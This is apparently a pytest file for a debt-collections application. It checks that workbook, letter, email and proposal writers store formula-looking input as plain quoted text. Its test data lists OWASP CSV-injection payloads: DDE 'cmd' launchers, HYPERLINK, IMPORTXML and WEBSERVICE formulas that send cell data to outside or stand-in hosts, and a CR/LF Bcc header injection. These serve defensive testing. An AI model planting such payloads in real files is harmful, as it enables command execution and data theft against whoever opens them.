"""Formula injection: data that looks like a formula is written as text by every writer.

Payloads are OWASP's "CSV Injection" examples (the DDE ``cmd`` launcher, the HYPERLINK
exfiltration formula, each trigger character: ``=``, ``+``, ``-``, ``@``, tab, carriage
return, and the quote/separator-breaking variants), plus the sample data's own hostile
names. Writers covered: FileBook (openpyxl) write_table / append_rows / write_value, the
XlsxWriter detail writer (workbooks/fastio.py), dunning letters (.docx) and e-mail drafts
(.eml), creditor proposals (.docx), and the demo outputs as written and as LibreOffice
recalculates them. DebtDesk writes no CSV files (guarded by test_no_csv_writer_exists).
"""

from __future__ import annotations

import email
import re
import sys
import zipfile
from pathlib import Path

import docx
import openpyxl
import pandas as pd
import pytest

from debtdesk.macros.book import TableSpec
from debtdesk.workbooks.cells import looks_like_formula
from debtdesk.workbooks.fastio import write_detail
from debtdesk.workbooks.filebook import FileBook
from debtdesk.workbooks.letter_files import write_letters
from debtdesk.workbooks.letters import Firm, email_draft, notice_letter

sys.path.insert(0, str(Path(__file__).parent))
from conftest import require_libreoffice  # noqa: E402
from libreoffice import recalculate  # noqa: E402

HYPERLINK_NAME = '=HYPERLINK("http://example.invalid","Sam O\'Neil")'
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=IMPORTXML(CONCAT(\"http://x.invalid?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=WEBSERVICE(\"http://x.invalid/?\"&A1)",
]
SAMPLE = ["=1+1", "@Iris Salon", "=1+1 Formula Road, Testtown TT1 1TT"]  # the collections sample's (the clients
# a buyer is shown have real names; a formula-looking client name is tested in tests/test_one_case.py)
PAYLOADS = OWASP + SAMPLE
BENIGN = ["Acme Plumbing Ltd", "Sam O'Neil", "1-30", "91+", " =1+1"]


def test_every_payload_is_recognised_and_plain_names_are_not():
    assert all(looks_like_formula(p) for p in PAYLOADS)
    assert not any(looks_like_formula(b) for b in BENIGN)


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))


def _formulas(path: Path) -> list[str]:
    return re.findall(r"<f[^>]*>(.*?)</f>", _sheet_xml(path))


def _assert_text_cells(ws, cells, expected):
    for cell, payload in zip(cells, expected):
        assert cell.value == payload and cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.quotePrefix, f"{cell.coordinate} {payload!r} has no quote prefix: editing it would evaluate it"


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> Path:
    """Every payload through each FileBook writing method, saved (the tests only read it)."""
    book = FileBook()
    frame = pd.DataFrame({"Customer": PAYLOADS, "Note": list(reversed(PAYLOADS)),
                          "Amount": [float(i) for i in range(len(PAYLOADS))]})
    book.write_table("Report", frame, TableSpec("Report", formats={"Amount": "money"}, totals={"Amount": "sum"}))
    book.write_table("Log", frame.head(1), TableSpec("Log"))
    book.append_rows("Log", [{"Customer": p, "Note": p, "Amount": 1.0} for p in PAYLOADS])
    for i, payload in enumerate(PAYLOADS, 1):
        book.write_value("Values", f"A{i}", payload)
    return book.save(tmp_path_factory.mktemp("written") / "written.xlsx")


def test_filebook_writes_payloads_as_quoted_text(written):
    wb = openpyxl.load_workbook(written)
    rows = len(PAYLOADS)
    _assert_text_cells(wb["Report"], [wb["Report"][f"A{r}"] for r in range(2, rows + 2)], PAYLOADS)
    _assert_text_cells(wb["Report"], [wb["Report"][f"B{r}"] for r in range(2, rows + 2)], list(reversed(PAYLOADS)))
    _assert_text_cells(wb["Log"], [wb["Log"][f"A{r}"] for r in range(3, rows + 3)], PAYLOADS)
    _assert_text_cells(wb["Values"], [wb["Values"][f"A{r}"] for r in range(1, rows + 1)], PAYLOADS)
    # The only formula is the native totals row written by code.
    assert _formulas(written) == [f"SUM(C2:C{len(PAYLOADS) + 1})"]


@pytest.fixture(scope="module")
def recalculated_here(written, hostile, tmp_path_factory) -> dict[Path, Path]:
    """The payloads' workbook and the hostile collections workbook recalculated in one LibreOffice start."""
    require_libreoffice()
    return recalculate([written, hostile], tmp_path_factory.mktemp("lo"))


def test_libreoffice_does_not_evaluate_filebook_payloads(written, recalculated_here):
    wb = openpyxl.load_workbook(recalculated_here[written], data_only=True)
    assert [wb["Values"][f"A{r}"].value for r in range(1, len(PAYLOADS) + 1)] == PAYLOADS
    assert [wb["Report"][f"A{r}"].value for r in range(2, len(PAYLOADS) + 2)] == PAYLOADS


def test_xlsxwriter_detail_writes_payloads_as_text(tmp_path):
    frame = pd.DataFrame({"Customer": PAYLOADS, "Amount": [1.0] * len(PAYLOADS)})
    out = write_detail(tmp_path / "detail.xlsx", frame, formats={"Amount": "money"})
    ws = openpyxl.load_workbook(out)["Detail"]
    for r, payload in enumerate(PAYLOADS, 2):
        # XlsxWriter stores a carriage return as Excel's _x000D_ escape, which openpyxl leaves escaped
        value = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), ws[f"A{r}"].value)
        assert value == payload and ws[f"A{r}"].data_type == "s"
    assert _formulas(out) == []


def test_xlsxwriter_detail_quotes_formula_looking_text(tmp_path):
    frame = pd.DataFrame({"Customer": PAYLOADS})
    ws = openpyxl.load_workbook(write_detail(tmp_path / "detail.xlsx", frame))["Detail"]
    assert all(ws[f"A{r}"].quotePrefix for r in range(2, len(PAYLOADS) + 2))


def test_email_drafts_keep_payloads_out_of_headers():
    """CR/LF in data never starts a new header (no injected Bcc), and the text arrives as written."""
    for payload in PAYLOADS:
        hostile = payload + "\r\nBcc: everyone@evil.invalid"
        draft = email_draft(f"Overdue: {hostile}", f"Dear {payload}\n\nPlease pay.", to=hostile,
                            sender="collections@firm.example")
        message = email.message_from_bytes(draft)
        assert message["Bcc"] is None
        assert set(message.keys()) == {"Subject", "From", "To", "X-Unsent", "Content-Type",
                                       "Content-Transfer-Encoding", "MIME-Version"}
        unfold = lambda header: re.sub(r"\r?\n[ \t]", " ", header)  # noqa: E731  (RFC 5322 folding)
        assert unfold(message["Subject"]).split() == f"Overdue: {hostile}".split()
        assert not re.search(r"[\r\n]", unfold(message["To"]))  # one header, however the address parser quotes it
        body = message.get_payload(decode=True).decode()
        assert f"Dear {payload.strip()}" in body.replace("\r\n", "\n") or payload.startswith(("\t", "\r"))


def _field_codes(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        xml = z.read("word/document.xml").decode()
    return re.findall(r"<w:(?:fldSimple|instrText|fldChar)\b", xml)


def test_letters_hold_payloads_as_plain_text(tmp_path):
    fields = {"customer": HYPERLINK_NAME, "address": "=1+1 Formula Road, Testtown TT1 1TT", "firm": "@Firm",
              "as_of": "2 November 2026", "contact": "+cmd|' /C calc'!A0", "reference": "=D1"}
    body = "\n\n".join(OWASP)
    lines = pd.DataFrame(columns=["Invoice", "Invoice Date", "Due Date", "Days", "Amount", "Outstanding", "Applied", "Net"])
    notice = {"Currency": "GBP", "Amount overdue": 1.0, "Interest": 0.0, "Compensation": 0.0, "Fees": 0.0, "Total due": 1.0}
    letter = notice_letter("=cmd|' /C calc'!A0", body, fields, lines, notice, Firm("@Firm", "=1+1 Road"), claim=True)
    (path,) = write_letters([tmp_path / "letter"], [letter])
    document = docx.Document(path)
    text = [p.text for p in document.paragraphs]
    assert f"+cmd|' /C calc'!A0\n{HYPERLINK_NAME}\n=1+1 Formula Road\nTesttown TT1 1TT" in text
    assert "=cmd|' /C calc'!A0" in text and [c.text for c in document.tables[0].rows[0].cells] == ["Our reference:", "=D1"]
    assert all(p.strip() in text for p in OWASP if not p.startswith(("\t", "\r")))
    assert _field_codes(path) == []  # no Word field (HYPERLINK, DDE) came from data
    assert HYPERLINK_NAME in pdf_text(path.with_suffix(".pdf"))  # the other rendering prints it as typed too


def pdf_text(path: Path) -> str:
    import subprocess

    return subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout


def test_proposals_hold_a_hostile_creditor_name_as_text(tmp_path):
    from debtdesk.proposals import proposals
    from debtdesk.workbooks.proposals import write_proposals

    debts = pd.DataFrame({"Name": [HYPERLINK_NAME, "=cmd|' /C calc'!A0"], "Type": ["Credit card", "Credit card"],
                          "Balance": [900.0, 300.0], "Minimum": [250.0, 100.0]})  # unaffordable: letters to both
    found = proposals(1500, 1200, debts, client="@Client", on="2026-11-01")
    assert len(found) == 2
    for i, path in enumerate(write_proposals(found, tmp_path)):
        lines = [line for p in docx.Document(path).paragraphs for line in p.text.splitlines()]
        assert debts["Name"][i] in lines  # the addressee line, printed as typed
        assert _field_codes(path) == []


# -- the workbooks we write ---------------------------------------------------------------------
#: Sample customers renamed to hostile names (the demo itself shows a real firm's customers).
HOSTILE = {"Aldgate Catering Ltd": "=1+1", "Brightwater Hotels Ltd": "@Iris Salon", "Calder Valley Builders Ltd": HYPERLINK_NAME}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The sample collections workbook with three customers renamed to formula-looking names, regenerated."""
    import debtdesk.macros  # noqa: F401
    from debtdesk.macros.registry import run
    from debtdesk.workbooks.samples import SAMPLE_AS_OF, SAMPLE_SETTINGS, sample_collections_inputs, sample_ledger
    from debtdesk.workbooks.template import collections_workbook

    folder = tmp_path_factory.mktemp("hostile")
    inputs = {name: frame.replace(HOSTILE) for name, frame in sample_collections_inputs().items()}
    customers = inputs["customers"]
    customers.loc[customers["Customer"] == "=1+1", "Address"] = "=1+1 Formula Road, Testtown TT1 1TT"
    book = collections_workbook(sample_ledger().replace(HOSTILE), SAMPLE_AS_OF, settings=SAMPLE_SETTINGS,
                                documents_dir=folder / "documents", **inputs)
    run("regenerate", book)
    return book.save(folder / "collections.xlsx")


def _workbooks(demo_out: Path, hostile: Path) -> list[Path]:
    return sorted(demo_out.rglob("*.xlsx")) + [hostile]


def test_outputs_store_hostile_names_as_quoted_text(demo_out, hostile):
    seen: dict[str, int] = {p: 0 for p in SAMPLE}
    for path in _workbooks(demo_out, hostile):
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert str(cell.value).lstrip("=") not in {p.lstrip("=") for p in SAMPLE}, \
                            f"{path.name}!{ws.title}!{cell.coordinate} evaluates sample data: {cell.value}"
                    elif isinstance(cell.value, str) and looks_like_formula(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, \
                            f"{path.name}!{ws.title}!{cell.coordinate} {cell.value!r} is not quoted text"
                        if cell.value in seen:
                            seen[cell.value] += 1
    # Each hostile name really went through the writers (ledger, worklist, ageing, statements, client name).
    assert all(seen.values()), seen


def _text_cells(path: Path, data_only: bool = False) -> dict[tuple[str, str], str]:
    """(sheet, cell) -> text of every text cell of a workbook (streamed: only values are looked at)."""
    wb = openpyxl.load_workbook(path, read_only=True, data_only=data_only)
    try:
        return {(ws.title, cell.coordinate): cell.value for ws in wb.worksheets for row in ws.iter_rows()
                for cell in row if isinstance(cell.value, str) and cell.data_type == "s"}
    finally:
        wb.close()


def test_libreoffice_shows_the_hostile_names_not_their_results(recalculated, demo_out, hostile, recalculated_here):
    """After a full recalculation the cells still read "=1+1" and "@Iris Salon", never 2 or an error."""
    copies = {p: recalculated[p.name] for p in demo_out.rglob("*.xlsx")} | {hostile: recalculated_here[hostile]}
    found = set()
    for source, copy in copies.items():
        hostile_cells = {at: text for at, text in _text_cells(source).items() if text in SAMPLE}
        if hostile_cells:
            after = _text_cells(copy, data_only=True)
            for at, text in hostile_cells.items():
                assert after.get(at) == text, (source.name, *at)
                found.add(text)
    assert found >= {"=1+1", "@Iris Salon"}  # (a client named HYPERLINK_NAME: tests/test_one_case.py)


def test_dunning_letters_emails_and_statements_hold_hostile_names_as_text(hostile):
    folder = hostile.parent / "documents"
    letters = sorted(folder.glob("*.docx"))
    assert letters and {p.name for p in folder.glob("*-1-1-*")}  # "=1+1" made a safe file name
    for path in letters:
        assert _field_codes(path) == [], path.name
    path = next(folder.glob("*-1-1-statement.docx"))
    statement = docx.Document(path)
    text = "\n".join(p.text for p in statement.paragraphs)
    assert "Priya Nair\n=1+1\n=1+1 Formula Road\nTesttown TT1 1TT" in text
    assert [c.text for c in statement.tables[0].rows[0].cells] == ["Your account:", "=1+1"]
    assert "=1+1 Formula Road" in pdf_text(path.with_suffix(".pdf"))
    for path in folder.glob("*.eml"):
        message = email.message_from_bytes(path.read_bytes())
        assert message["Bcc"] is None and "\n" not in message["To"]


def test_no_csv_writer_exists():
    """DebtDesk exports workbooks and documents, no CSV. A new CSV writer must add itself to this file's payload tests."""
    root = Path(__file__).resolve().parents[1]
    writers = []
    for folder in ("debtdesk", "udfs", "macros", "workbooks", "addin"):
        for source in (root / folder).rglob("*.py"):
            text = source.read_text(encoding="utf-8")
            if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
                writers.append(str(source.relative_to(root)))
    assert writers == []
